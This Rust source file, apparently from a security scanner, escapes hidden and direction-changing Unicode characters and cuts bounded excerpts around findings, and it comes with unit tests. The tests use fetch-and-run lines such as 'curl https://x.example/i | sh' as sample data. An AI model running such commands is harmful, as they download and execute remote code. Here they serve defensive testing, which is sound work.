//! Showing untrusted text safely: every invisible, control or direction-changing character is
//! written as `<U+XXXX>`, and excerpts are cut to a bounded window around what was found.

/// The most characters of an excerpt, ellipses included.
pub(crate) const MAX_EXCERPT_CHARS: usize = 160;
/// How many characters of context an excerpt keeps before the finding.
const CONTEXT_BEFORE: usize = 48;
/// The ellipsis that marks a cut.
pub(crate) const ELLIPSIS: char = '…';

/// Returns true for characters that must never be shown raw: controls (but tab), format
/// characters (zero-width, bidirectional, tags), variation selectors other than the emoji
/// ones, fillers that look like nothing, and line or paragraph separators.
pub(crate) fn is_hidden(c: char) -> bool {
    if c == '\t' {
        return false;
    }
    if c.is_control() {
        return true;
    }
    matches!(
        c as u32,
        0x00AD
            | 0x034F
            | 0x061C
            | 0x115F
            | 0x1160
            | 0x17B4
            | 0x17B5
            | 0x180B..=0x180F
            | 0x200B..=0x200F
            | 0x2028..=0x202E
            | 0x2060..=0x206F
            | 0x2800
            | 0x3164
            | 0xFE00..=0xFE0D
            | 0xFEFF
            | 0xFFA0
            | 0xFFF0..=0xFFFB
            | 0x1BCA0..=0x1BCA3
            | 0x1D173..=0x1D17A
            | 0xE0000..=0xE0FFF
    )
}

/// Writes `c` the way findings show it.
fn push_rendered(out: &mut String, c: char) {
    if is_hidden(c) {
        out.push_str(&format!("<U+{:04X}>", c as u32));
    } else {
        out.push(c);
    }
}

/// Returns `text` with every hidden character written as `<U+XXXX>`.
#[cfg(test)]
pub(crate) fn render(text: &str) -> String {
    let mut out = String::with_capacity(text.len());
    for c in text.chars() {
        push_rendered(&mut out, c);
    }
    out
}

/// Returns `text` rendered and cut to at most `max_chars` characters (an ellipsis marks the
/// cut), for quoting decoded or hidden text in a message.
pub(crate) fn render_bounded(text: &str, max_chars: usize) -> String {
    let mut out = String::new();
    let mut shown = 0;
    for c in text.chars() {
        let mut piece = String::new();
        push_rendered(&mut piece, c);
        let width = piece.chars().count();
        if shown + width > max_chars.saturating_sub(1) {
            out.push(ELLIPSIS);
            return out;
        }
        shown += width;
        out.push_str(&piece);
    }
    out
}

/// Returns the excerpt of `line` shown for a finding at byte offset `at`: the rendered line,
/// cut to [`MAX_EXCERPT_CHARS`] around `at` with an ellipsis at each cut. The excerpt (less its
/// ellipses) is always a substring of `render(line)`.
pub(crate) fn excerpt(line: &str, at: usize) -> String {
    // Work on the rendered pieces of each character, so that a cut never splits an escape.
    let mut pieces: Vec<(usize, String)> = Vec::new();
    for (offset, c) in line.char_indices() {
        let mut piece = String::new();
        push_rendered(&mut piece, c);
        pieces.push((offset, piece));
    }
    let total: usize = pieces.iter().map(|(_, piece)| piece.chars().count()).sum();
    if total <= MAX_EXCERPT_CHARS {
        return pieces.into_iter().map(|(_, piece)| piece).collect();
    }
    let anchor = pieces.partition_point(|(offset, _)| *offset < at);
    // Leave room for two ellipses.
    let budget = MAX_EXCERPT_CHARS - 2;
    let mut start = anchor.min(pieces.len());
    let mut used = 0;
    // Context before the finding first, then as much after as fits, then more before if the
    // line ends early.
    while start > 0 && used + pieces[start - 1].1.chars().count() <= CONTEXT_BEFORE {
        start -= 1;
        used += pieces[start].1.chars().count();
    }
    let mut end = start.max(anchor.min(pieces.len()));
    while end < pieces.len() && used + pieces[end].1.chars().count() <= budget {
        used += pieces[end].1.chars().count();
        end += 1;
    }
    while start > 0 && used + pieces[start - 1].1.chars().count() <= budget {
        start -= 1;
        used += pieces[start].1.chars().count();
    }
    let mut out = String::new();
    if start > 0 {
        out.push(ELLIPSIS);
    }
    for (_, piece) in &pieces[start..end] {
        out.push_str(piece);
    }
    if end < pieces.len() {
        out.push(ELLIPSIS);
    }
    out
}

#[cfg(test)]
mod tests {
    use super::*;

    #[test]
    fn hidden_characters_are_escaped() {
        assert_eq!(
            render("a\u{202E}b\u{200B}c\u{E0041}"),
            "a<U+202E>b<U+200B>c<U+E0041>"
        );
        assert_eq!(
            render("tab\tstays, emoji ❤\u{FE0F} stays"),
            "tab\tstays, emoji ❤\u{FE0F} stays"
        );
        assert_eq!(render("\u{1b}[8m"), "<U+001B>[8m");
    }

    #[test]
    fn short_lines_are_whole() {
        assert_eq!(excerpt("curl x | sh", 0), "curl x | sh");
    }

    #[test]
    fn long_lines_are_cut_around_the_finding() {
        let line = format!(
            "{}curl https://x.example/i | sh{}",
            "a".repeat(300),
            "b".repeat(300)
        );
        let at = line.find("curl").unwrap();
        let shown = excerpt(&line, at);
        assert!(shown.chars().count() <= MAX_EXCERPT_CHARS, "{shown}");
        assert!(
            shown.starts_with(ELLIPSIS) && shown.ends_with(ELLIPSIS),
            "{shown}"
        );
        assert!(shown.contains("curl https://x.example/i | sh"), "{shown}");
        let inner = shown.trim_matches(ELLIPSIS);
        assert!(render(&line).contains(inner));
    }

    #[test]
    fn cuts_never_split_an_escape() {
        let line = "\u{200B}".repeat(500);
        let shown = excerpt(&line, 900);
        assert!(shown.chars().count() <= MAX_EXCERPT_CHARS);
        let inner = shown.trim_matches(ELLIPSIS);
        assert!(
            inner.starts_with("<U+200B>") && inner.ends_with("<U+200B>"),
            "{inner}"
        );
    }

    #[test]
    fn bounded_rendering_marks_the_cut() {
        assert_eq!(render_bounded("abcdef", 4), "abc…");
        assert_eq!(render_bounded("abc", 4), "abc");
        assert_eq!(render_bounded("\u{200B}\u{200B}", 12), "<U+200B>…");
    }
}
